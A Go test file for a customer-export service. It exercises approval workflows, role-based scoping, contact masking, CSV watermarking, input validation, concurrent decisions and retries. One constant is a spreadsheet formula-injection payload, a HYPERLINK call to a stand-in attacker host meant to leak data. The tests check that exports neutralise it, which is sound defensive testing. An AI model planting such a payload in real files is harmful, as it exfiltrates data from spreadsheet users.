package clientsvc_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"maps"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/testing/protocmp"

	"github.com/holdfast/holdfast/pkg/auth"
	clientv1 "github.com/holdfast/holdfast/proto/holdfast/client/v1"
)

const (
	exportReason   = "季度复盘：整理团队客户"
	approvalReason = "复盘所需，同意"
	// formulaCompany is a company name a spreadsheet would run.
	formulaCompany = `=HYPERLINK("http://evil.example/?leak","点我")`
)

// exportRequest asks, with exportReason, for the customers f selects.
func exportRequest(requestID string, f *clientv1.ExportFilter, contacts bool) *clientv1.RequestExportRequest {
	return &clientv1.RequestExportRequest{RequestId: requestID, Filter: f, Reason: exportReason, IncludeContacts: contacts}
}

// requestExport requests an export and returns its id.
func requestExport(t *testing.T, c clientv1.ClientServiceClient, req *clientv1.RequestExportRequest) string {
	t.Helper()
	resp, err := c.RequestExport(t.Context(), req)
	if err != nil {
		t.Fatalf("RequestExport %s: %v", req.GetRequestId(), err)
	}
	return resp.GetExport().GetExportId()
}

// approve approves an export with approvalReason.
func approve(t *testing.T, c clientv1.ClientServiceClient, requestID, exportID string) *clientv1.ApproveExportResponse {
	t.Helper()
	resp, err := c.ApproveExport(t.Context(), &clientv1.ApproveExportRequest{RequestId: requestID, ExportId: exportID, Reason: approvalReason})
	if err != nil {
		t.Fatalf("ApproveExport %s: %v", exportID, err)
	}
	return resp
}

// exportHistory is an export's events as stored in CLIENT.
func (e *testEnv) exportHistory(t *testing.T, tenant, exportID string) []storedEvent {
	t.Helper()
	return e.clientEvents(t, "client."+tenant+".export."+exportID)
}

// exportRows parses a downloaded file back, header first.
func exportRows(t *testing.T, file []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse as CSV: %v", err)
	}
	return rows
}

var exportHeader = []string{
	"export_id", "recipient", "customer_id", "person_name", "company_name", "phones",
	"wechat_id", "email", "address", "source_channel", "owner_employee_id",
}

func TestExport(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	svc := env.start(t, nil)
	t.Run("request, approve, download", func(t *testing.T) {
		t.Parallel()
		testExportHappyPath(t, env, svc)
	})
	t.Run("decisions and downloads", func(t *testing.T) {
		t.Parallel()
		testExportRefusals(t, env, svc)
	})
	t.Run("what sales may export", func(t *testing.T) {
		t.Parallel()
		testExportScope(t, env, svc)
	})
	t.Run("bad input", func(t *testing.T) {
		t.Parallel()
		testExportInvalid(t, env, svc)
	})
	t.Run("who reads an export", func(t *testing.T) {
		t.Parallel()
		testExportReaders(t, env, svc)
	})
	t.Run("concurrent decisions", func(t *testing.T) {
		t.Parallel()
		testConcurrentExportDecisions(t, env, svc)
	})
	t.Run("retries", func(t *testing.T) {
		t.Parallel()
		testExportRetries(t, env, svc)
	})
}

// testExportHappyPath is scenario H2: a manager exports a salesperson's
// customers for a review, hr approves, the manager downloads a
// watermarked file, and every step is on record.
func testExportHappyPath(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-happy"
	env.oneTeam(t, tenant, map[string]auth.Role{"e3": auth.RoleSales, "e4": auth.RoleSales, "m1": auth.RoleManager})
	seller := env.dial(t, svc, principal(tenant, "e3", auth.RoleSales))
	other := env.dial(t, svc, principal(tenant, "e4", auth.RoleSales))
	manager := env.dial(t, svc, principal(tenant, "m1", auth.RoleManager))
	hr := env.dial(t, svc, principal(tenant, "hr1", auth.RoleHR))

	lina := registerRequest("lina", "李娜", "139 1234 5678")
	lina.CompanyName, lina.WechatId, lina.Email = formulaCompany, "wx_lina01", "li.na@example.com"
	lina.Address = &clientv1.Address{Text: `杭州市西湖区文三路90号, "云帆"大厦`}
	linaResp, err := seller.RegisterCustomer(t.Context(), lina)
	if err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}
	wangResp, err := seller.RegisterCustomer(t.Context(), registerRequest("wang", "王伟", "138 0013 8000"))
	if err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}
	if _, err := other.RegisterCustomer(t.Context(), registerRequest("not-e3", "赵六", "137 0000 1111")); err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}
	linaID, wangID := linaResp.GetCustomer().GetCustomerId(), wangResp.GetCustomer().GetCustomerId()

	tests := []struct {
		name     string
		contacts bool
		// want is the customers' rows after export_id and recipient, by customer id.
		want map[string][]string
	}{
		{
			name: "contacts masked",
			want: map[string][]string{
				linaID: {linaID, "李娜", "'" + formulaCompany, "139****5678", "wx_****", "l****@example.com", `杭州市西湖区文三路90号, "云帆"大厦`, "website", "e3"},
				wangID: {wangID, "王伟", "", "138****8000", "", "", "", "website", "e3"},
			},
		},
		{
			name:     "contacts included",
			contacts: true,
			want: map[string][]string{
				linaID: {linaID, "李娜", "'" + formulaCompany, "'+8613912345678", "wx_lina01", "li.na@example.com", `杭州市西湖区文三路90号, "云帆"大厦`, "website", "e3"},
				wangID: {wangID, "王伟", "", "'+8613800138000", "", "", "", "website", "e3"},
			},
		},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			key := fmt.Sprint(i)
			filter := &clientv1.ExportFilter{OwnerEmployeeId: "e3"}
			requested, err := manager.RequestExport(t.Context(), exportRequest("review-"+key, filter, tt.contacts))
			if err != nil {
				t.Fatalf("RequestExport: %v", err)
			}
			id := requested.GetExport().GetExportId()
			want := &clientv1.Export{
				ExportId: id, RequestedBy: "m1", Filter: filter, Reason: exportReason, IncludeContacts: tt.contacts,
				CustomerCount: 2, Status: clientv1.ExportStatus_EXPORT_STATUS_REQUESTED,
			}
			if diff := cmp.Diff(want, requested.GetExport(), protocmp.Transform(), protocmp.IgnoreFields(&clientv1.Export{}, "requested_at")); diff != "" {
				t.Errorf("requested export mismatch (-want, +got):\n%s", diff)
			}

			approved := approve(t, hr, "approve-"+key, id)
			if got := approved.GetExport(); got.GetStatus() != clientv1.ExportStatus_EXPORT_STATUS_APPROVED ||
				got.GetDecidedBy() != "hr1" || got.GetDecisionReason() != approvalReason || got.GetDecidedAt() == nil {
				t.Errorf("approved export = %v, want APPROVED by hr1 with the reason and a time", got)
			}

			download := &clientv1.DownloadExportRequest{RequestId: "download-" + key, ExportId: id}
			file, err := manager.DownloadExport(t.Context(), download)
			if err != nil {
				t.Fatalf("DownloadExport: %v", err)
			}
			sum := sha256.Sum256(file.GetCsv())
			if file.GetSha256() != hex.EncodeToString(sum[:]) || file.GetRows() != 2 || file.GetFilename() != "holdfast-export-"+id+".csv" {
				t.Errorf("download = rows %d, sha256 %s, filename %s; want 2 rows, the file's digest %x and holdfast-export-%s.csv",
					file.GetRows(), file.GetSha256(), file.GetFilename(), sum, id)
			}
			rows := exportRows(t, file.GetCsv())
			if diff := cmp.Diff(exportHeader, rows[0]); diff != "" {
				t.Errorf("header mismatch (-want, +got):\n%s", diff)
			}
			got := map[string][]string{}
			for _, row := range rows[1:] {
				if len(row) != len(exportHeader) || row[0] != id || row[1] != "m1" {
					t.Fatalf("row %q lacks the watermark: want export_id %s and recipient m1", row, id)
				}
				got[row[2]] = row[2:]
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("rows mismatch (-want, +got):\n%s", diff)
			}

			// A retry returns the same file and records nothing more.
			before := env.streamMessages(t, "client."+tenant+".>")
			again, err := manager.DownloadExport(t.Context(), download)
			if err != nil {
				t.Fatalf("retried DownloadExport: %v", err)
			}
			if diff := cmp.Diff(file, again, protocmp.Transform()); diff != "" {
				t.Errorf("retried download mismatch (-first, +retry):\n%s", diff)
			}
			if after := env.streamMessages(t, "client."+tenant+".>"); after != before {
				t.Errorf("a retried download wrote %d events, want none", after-before)
			}
			// A second download is allowed, and recorded too.
			second, err := manager.DownloadExport(t.Context(), &clientv1.DownloadExportRequest{RequestId: "download-again-" + key, ExportId: id})
			if err != nil {
				t.Fatalf("second DownloadExport: %v", err)
			}
			if second.GetSha256() != file.GetSha256() || second.GetSequence() == file.GetSequence() {
				t.Errorf("second download = sha256 %s at %d, want the same file (%s) at a new sequence", second.GetSha256(), second.GetSequence(), file.GetSha256())
			}

			read, err := hr.GetExport(t.Context(), &clientv1.GetExportRequest{ExportId: id})
			if err != nil {
				t.Fatalf("GetExport: %v", err)
			}
			if read.GetExport().GetStatus() != clientv1.ExportStatus_EXPORT_STATUS_DOWNLOADED {
				t.Errorf("status after download = %v, want DOWNLOADED", read.GetExport().GetStatus())
			}

			type step struct {
				Actor   string
				Payload proto.Message
			}
			var history []step
			for _, ev := range env.exportHistory(t, tenant, id) {
				history = append(history, step{Actor: ev.ActorID, Payload: ev.Payload})
			}
			downloaded := &clientv1.ExportDownloaded{
				ExportId: id, Recipient: "m1", Rows: 2, Sha256: file.GetSha256(), CustomerIds: slices.Sorted(maps.Keys(tt.want)),
			}
			wantHistory := []step{
				{Actor: "m1", Payload: &clientv1.ExportRequested{
					ExportId: id, Filter: filter, Reason: exportReason, IncludeContacts: tt.contacts, CustomerCount: 2,
				}},
				{Actor: "hr1", Payload: &clientv1.ExportApproved{ExportId: id, Reason: approvalReason}},
				{Actor: "m1", Payload: downloaded},
				{Actor: "m1", Payload: downloaded},
			}
			if diff := cmp.Diff(wantHistory, history, protocmp.Transform()); diff != "" {
				t.Errorf("export history mismatch (-want, +got):\n%s", diff)
			}
		})
	}
}

// testExportRefusals runs each refused step on an export of its own, made
// by a manager and brought to the state the case needs.
func testExportRefusals(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-refusals"
	env.oneTeam(t, tenant, map[string]auth.Role{"m-req": auth.RoleManager, "m-2": auth.RoleManager, "s-1": auth.RoleSales})
	requester := env.dial(t, svc, principal(tenant, "m-req", auth.RoleManager))
	manager := env.dial(t, svc, principal(tenant, "m-2", auth.RoleManager))
	hr := env.dial(t, svc, principal(tenant, "hr-1", auth.RoleHR))
	sales := env.dial(t, svc, principal(tenant, "s-1", auth.RoleSales))
	auditor := env.dial(t, svc, principal(tenant, "au-1", auth.RoleAuditor))
	admin := env.dial(t, svc, principal(tenant, "ad-1", auth.RoleAdmin))
	if _, err := sales.RegisterCustomer(t.Context(), registerRequest("one", "李四", "13900139000")); err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}

	approveBy := func(c clientv1.ClientServiceClient) func(string, string) error {
		return func(rid, id string) error {
			_, err := c.ApproveExport(t.Context(), &clientv1.ApproveExportRequest{RequestId: rid, ExportId: id, Reason: approvalReason})
			return err
		}
	}
	rejectBy := func(c clientv1.ClientServiceClient) func(string, string) error {
		return func(rid, id string) error {
			_, err := c.RejectExport(t.Context(), &clientv1.RejectExportRequest{RequestId: rid, ExportId: id, Reason: "不需要"})
			return err
		}
	}
	downloadBy := func(c clientv1.ClientServiceClient) func(string, string) error {
		return func(rid, id string) error {
			_, err := c.DownloadExport(t.Context(), &clientv1.DownloadExportRequest{RequestId: rid, ExportId: id})
			return err
		}
	}
	tests := []struct {
		name string
		// before brings the export to the state the case needs.
		before      []func(rid, id string) error
		call        func(rid, id string) error
		want        codes.Code
		wantMessage string
	}{
		{name: "the requester approves their own export", call: approveBy(requester), want: codes.PermissionDenied, wantMessage: "approver must not be the requester"},
		{name: "the requester rejects their own export", call: rejectBy(requester), want: codes.PermissionDenied, wantMessage: "approver must not be the requester"},
		{name: "sales approves", call: approveBy(sales), want: codes.PermissionDenied},
		{name: "an auditor approves", call: approveBy(auditor), want: codes.PermissionDenied},
		{name: "an admin approves", call: approveBy(admin), want: codes.OK},
		{name: "hr rejects", call: rejectBy(hr), want: codes.OK},
		{name: "approve twice", before: []func(string, string) error{approveBy(hr)}, call: approveBy(manager), want: codes.FailedPrecondition},
		{name: "approve after rejection", before: []func(string, string) error{rejectBy(hr)}, call: approveBy(manager), want: codes.FailedPrecondition},
		{name: "reject after approval", before: []func(string, string) error{approveBy(hr)}, call: rejectBy(manager), want: codes.FailedPrecondition},
		{name: "download before approval", call: downloadBy(requester), want: codes.FailedPrecondition},
		{name: "reject then download", before: []func(string, string) error{rejectBy(hr)}, call: downloadBy(requester), want: codes.FailedPrecondition},
		{name: "the approver downloads", before: []func(string, string) error{approveBy(hr)}, call: downloadBy(hr), want: codes.PermissionDenied},
		{name: "someone else downloads", before: []func(string, string) error{approveBy(hr)}, call: downloadBy(manager), want: codes.PermissionDenied},
		{name: "sales downloads another's export", before: []func(string, string) error{approveBy(hr)}, call: downloadBy(sales), want: codes.PermissionDenied},
		{name: "approve an unknown export", call: func(rid, _ string) error { return approveBy(hr)(rid, "no-such-export") }, want: codes.NotFound},
		{name: "download an unknown export", call: func(rid, _ string) error { return downloadBy(requester)(rid, "no-such-export") }, want: codes.NotFound},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			id := requestExport(t, requester, exportRequest(fmt.Sprintf("refusal-%d", i), nil, false))
			for j, step := range tt.before {
				if err := step(fmt.Sprintf("before-%d-%d", i, j), id); err != nil {
					t.Fatalf("setting up: %v", err)
				}
			}
			before := env.exportHistory(t, tenant, id)
			err := tt.call(fmt.Sprintf("call-%d", i), id)
			if got := status.Code(err); got != tt.want {
				t.Fatalf("status %v (%v), want %v", got, err, tt.want)
			}
			if !strings.Contains(status.Convert(err).Message(), tt.wantMessage) {
				t.Errorf("message %q lacks %q", status.Convert(err).Message(), tt.wantMessage)
			}
			if after := env.exportHistory(t, tenant, id); tt.want != codes.OK && len(after) != len(before) {
				t.Errorf("a refused step wrote %d events, want none", len(after)-len(before))
			}
		})
	}
}

// testExportScope checks that sales export only their own customers and
// the pool, as they list them.
func testExportScope(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-scope"
	env.oneTeam(t, tenant, map[string]auth.Role{"s-1": auth.RoleSales, "s-2": auth.RoleSales, "ss-1": auth.RoleSeniorSales})
	sales := env.dial(t, svc, principal(tenant, "s-1", auth.RoleSales))
	other := env.dial(t, svc, principal(tenant, "s-2", auth.RoleSales))
	senior := env.dial(t, svc, principal(tenant, "ss-1", auth.RoleSeniorSales))
	if _, err := sales.RegisterCustomer(t.Context(), registerRequest("own", "李四", "13900139000")); err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}
	if _, err := other.RegisterCustomer(t.Context(), registerRequest("others", "王五", "13900139001")); err != nil {
		t.Fatalf("RegisterCustomer: %v", err)
	}
	tests := []struct {
		name       string
		who        clientv1.ClientServiceClient
		filter     *clientv1.ExportFilter
		want       codes.Code
		wantFilter *clientv1.ExportFilter
		wantCount  int32
	}{
		{name: "sales, another's customers", who: sales, filter: &clientv1.ExportFilter{OwnerEmployeeId: "s-2"}, want: codes.PermissionDenied},
		{name: "sales, no filter: their own", who: sales, want: codes.OK, wantFilter: &clientv1.ExportFilter{OwnerEmployeeId: "s-1"}, wantCount: 1},
		{name: "sales, their own", who: sales, filter: &clientv1.ExportFilter{OwnerEmployeeId: "s-1"}, want: codes.OK, wantFilter: &clientv1.ExportFilter{OwnerEmployeeId: "s-1"}, wantCount: 1},
		{name: "sales, the pool", who: sales, filter: &clientv1.ExportFilter{InPool: true}, want: codes.OK, wantFilter: &clientv1.ExportFilter{InPool: true}},
		{name: "senior_sales, another's customers", who: senior, filter: &clientv1.ExportFilter{OwnerEmployeeId: "s-2"}, want: codes.OK, wantFilter: &clientv1.ExportFilter{OwnerEmployeeId: "s-2"}, wantCount: 1},
		{name: "senior_sales, everyone's", who: senior, want: codes.OK, wantFilter: &clientv1.ExportFilter{}, wantCount: 2},
	}
	t.Run("requests", func(t *testing.T) {
		for i, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				t.Parallel()
				resp, err := tt.who.RequestExport(t.Context(), exportRequest(fmt.Sprintf("scope-%d", i), tt.filter, true))
				if got := status.Code(err); got != tt.want {
					t.Fatalf("status %v (%v), want %v", got, err, tt.want)
				}
				if err != nil {
					return
				}
				if diff := cmp.Diff(tt.wantFilter, resp.GetExport().GetFilter(), protocmp.Transform()); diff != "" {
					t.Errorf("recorded filter mismatch (-want, +got):\n%s", diff)
				}
				if resp.GetExport().GetCustomerCount() != tt.wantCount {
					t.Errorf("customer_count = %d, want %d", resp.GetExport().GetCustomerCount(), tt.wantCount)
				}
			})
		}
	})
	if n := env.streamMessages(t, "client."+tenant+".export.>"); n != 5 {
		t.Errorf("%d export events, want one per allowed request (5)", n)
	}
}

func testExportInvalid(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-invalid"
	env.oneTeam(t, tenant, map[string]auth.Role{"m-1": auth.RoleManager})
	manager := env.dial(t, svc, principal(tenant, "m-1", auth.RoleManager))
	hr := env.dial(t, svc, principal(tenant, "hr-1", auth.RoleHR))
	id := requestExport(t, manager, exportRequest("valid", nil, false))
	request := func(change func(*clientv1.RequestExportRequest)) func() error {
		return func() error {
			req := exportRequest("bad-request", &clientv1.ExportFilter{}, false)
			change(req)
			_, err := manager.RequestExport(t.Context(), req)
			return err
		}
	}
	tests := []struct {
		name       string
		call       func() error
		wantFields []string
	}{
		{name: "request without reason", call: request(func(r *clientv1.RequestExportRequest) { r.Reason = " " }), wantFields: []string{"reason"}},
		{name: "request with a reason of 501 characters", call: request(func(r *clientv1.RequestExportRequest) { r.Reason = strings.Repeat("因", 501) }), wantFields: []string{"reason"}},
		{name: "request with a bad request id", call: request(func(r *clientv1.RequestExportRequest) { r.RequestId = "a b" }), wantFields: []string{"request_id"}},
		{name: "owner that is no id", call: request(func(r *clientv1.RequestExportRequest) { r.Filter.OwnerEmployeeId = "e1.>" }), wantFields: []string{"filter.owner_employee_id"}},
		{name: "in the pool and held", call: request(func(r *clientv1.RequestExportRequest) {
			r.Filter.OwnerEmployeeId, r.Filter.InPool = "e1", true
		}), wantFields: []string{"filter.in_pool"}},
		{name: "unknown source", call: request(func(r *clientv1.RequestExportRequest) { r.Filter.SourceChannel = 99 }), wantFields: []string{"filter.source_channel"}},
		{name: "every bad request field at once", call: request(func(r *clientv1.RequestExportRequest) {
			r.RequestId, r.Reason, r.Filter = "", "", &clientv1.ExportFilter{OwnerEmployeeId: "x y", InPool: true, SourceChannel: -1}
		}), wantFields: []string{"filter.in_pool", "filter.owner_employee_id", "filter.source_channel", "reason", "request_id"}},
		{name: "approve without reason", call: func() error {
			_, err := hr.ApproveExport(t.Context(), &clientv1.ApproveExportRequest{RequestId: "a-1", ExportId: id})
			return err
		}, wantFields: []string{"reason"}},
		{name: "reject with every field bad", call: func() error {
			_, err := hr.RejectExport(t.Context(), &clientv1.RejectExportRequest{RequestId: "", ExportId: "x.y"})
			return err
		}, wantFields: []string{"export_id", "reason", "request_id"}},
		{name: "download without ids", call: func() error {
			_, err := manager.DownloadExport(t.Context(), &clientv1.DownloadExportRequest{})
			return err
		}, wantFields: []string{"export_id", "request_id"}},
		{name: "get a bad id", call: func() error {
			_, err := manager.GetExport(t.Context(), &clientv1.GetExportRequest{ExportId: "client.>"})
			return err
		}, wantFields: []string{"export_id"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.wantFields, violatedFields(t, tt.call())); diff != "" {
				t.Errorf("violated fields mismatch (-want, +got):\n%s", diff)
			}
		})
	}
	if n := env.streamMessages(t, "client."+tenant+".>"); n != 1 {
		t.Errorf("%d events after bad input, want only the valid request's", n)
	}
}

func testExportReaders(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-readers"
	env.oneTeam(t, tenant, map[string]auth.Role{"s-req": auth.RoleSales, "s-other": auth.RoleSales, "ss-1": auth.RoleSeniorSales, "m-1": auth.RoleManager})
	requester := env.dial(t, svc, principal(tenant, "s-req", auth.RoleSales))
	id := requestExport(t, requester, exportRequest("mine", nil, false))
	tests := []struct {
		name string
		who  auth.Principal
		want codes.Code
	}{
		{name: "the requester", who: principal(tenant, "s-req", auth.RoleSales), want: codes.OK},
		{name: "another salesperson", who: principal(tenant, "s-other", auth.RoleSales), want: codes.PermissionDenied},
		{name: "senior_sales", who: principal(tenant, "ss-1", auth.RoleSeniorSales), want: codes.PermissionDenied},
		{name: "manager", who: principal(tenant, "m-1", auth.RoleManager), want: codes.OK},
		{name: "hr", who: principal(tenant, "hr-1", auth.RoleHR), want: codes.OK},
		{name: "auditor", who: principal(tenant, "au-1", auth.RoleAuditor), want: codes.OK},
		{name: "admin", who: principal(tenant, "ad-1", auth.RoleAdmin), want: codes.OK},
		{name: "another tenant's manager", who: principal(tenant+"-2", "m-1", auth.RoleManager), want: codes.NotFound},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			resp, err := env.dial(t, svc, tt.who).GetExport(t.Context(), &clientv1.GetExportRequest{ExportId: id})
			if got := status.Code(err); got != tt.want {
				t.Fatalf("status %v (%v), want %v", got, err, tt.want)
			}
			if err == nil && (resp.GetExport().GetRequestedBy() != "s-req" || resp.GetExport().GetStatus() != clientv1.ExportStatus_EXPORT_STATUS_REQUESTED) {
				t.Errorf("GetExport = %v, want s-req's pending request", resp.GetExport())
			}
		})
	}
}

// testConcurrentExportDecisions races an approval against a rejection:
// exactly one is recorded, the other is refused.
func testConcurrentExportDecisions(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-race"
	env.oneTeam(t, tenant, map[string]auth.Role{"m-req": auth.RoleManager, "m-2": auth.RoleManager})
	requester := env.dial(t, svc, principal(tenant, "m-req", auth.RoleManager))
	manager := env.dial(t, svc, principal(tenant, "m-2", auth.RoleManager))
	hr := env.dial(t, svc, principal(tenant, "hr-1", auth.RoleHR))
	for round := range 5 {
		id := requestExport(t, requester, exportRequest(fmt.Sprintf("race-%d", round), nil, false))
		var wg sync.WaitGroup
		errs := make([]error, 2)
		wg.Go(func() {
			_, errs[0] = manager.ApproveExport(t.Context(), &clientv1.ApproveExportRequest{RequestId: "approve", ExportId: id, Reason: approvalReason})
		})
		wg.Go(func() {
			_, errs[1] = hr.RejectExport(t.Context(), &clientv1.RejectExportRequest{RequestId: "reject", ExportId: id, Reason: "不需要"})
		})
		wg.Wait()
		won := 0
		for _, err := range errs {
			switch status.Code(err) {
			case codes.OK:
				won++
			case codes.FailedPrecondition, codes.Aborted:
			default:
				t.Errorf("round %d: a losing decision answered %v, want FailedPrecondition or Aborted", round, err)
			}
		}
		if history := env.exportHistory(t, tenant, id); won != 1 || len(history) != 2 {
			t.Errorf("round %d: %d decisions won and %d events stored (%v), want exactly one decision after the request", round, won, len(history), errs)
		}
	}
}

func testExportRetries(t *testing.T, env *testEnv, svc *runningService) {
	const tenant = "export-retries"
	env.oneTeam(t, tenant, map[string]auth.Role{"m-1": auth.RoleManager})
	manager := env.dial(t, svc, principal(tenant, "m-1", auth.RoleManager))
	hr := env.dial(t, svc, principal(tenant, "hr-1", auth.RoleHR))
	messages := func() uint64 { return env.streamMessages(t, "client."+tenant+".>") }

	req := exportRequest("retry", &clientv1.ExportFilter{InPool: true}, true)
	first, err := manager.RequestExport(t.Context(), req)
	if err != nil {
		t.Fatalf("RequestExport: %v", err)
	}
	before := messages()
	again, err := manager.RequestExport(t.Context(), req)
	if err != nil {
		t.Fatalf("retried RequestExport: %v", err)
	}
	if diff := cmp.Diff(first, again, protocmp.Transform()); diff != "" {
		t.Errorf("retried request mismatch (-first, +retry):\n%s", diff)
	}
	otherHR := env.dial(t, svc, principal(tenant, "hr-2", auth.RoleHR))
	// The same request id from another caller is another export.
	if other := requestExport(t, otherHR, req); other == first.GetExport().GetExportId() {
		t.Errorf("two callers' request %q share export %s", req.GetRequestId(), other)
	}
	before++

	changed := proto.Clone(req).(*clientv1.RequestExportRequest)
	changed.IncludeContacts = false
	_, err = manager.RequestExport(t.Context(), changed)
	wantCode(t, err, codes.FailedPrecondition)

	id := first.GetExport().GetExportId()
	approveReq := &clientv1.ApproveExportRequest{RequestId: "approve-1", ExportId: id, Reason: approvalReason}
	approved, err := hr.ApproveExport(t.Context(), approveReq)
	if err != nil {
		t.Fatalf("ApproveExport: %v", err)
	}
	retried, err := hr.ApproveExport(t.Context(), approveReq)
	if err != nil {
		t.Fatalf("retried ApproveExport: %v", err)
	}
	if diff := cmp.Diff(approved, retried, protocmp.Transform()); diff != "" {
		t.Errorf("retried approval mismatch (-first, +retry):\n%s", diff)
	}
	_, err = hr.RejectExport(t.Context(), &clientv1.RejectExportRequest{RequestId: "approve-1", ExportId: id, Reason: approvalReason})
	wantCode(t, err, codes.FailedPrecondition)
	if after := messages(); after != before+1 {
		t.Errorf("%d events written by retries and a reused request id, want only the approval", after-before)
	}
}
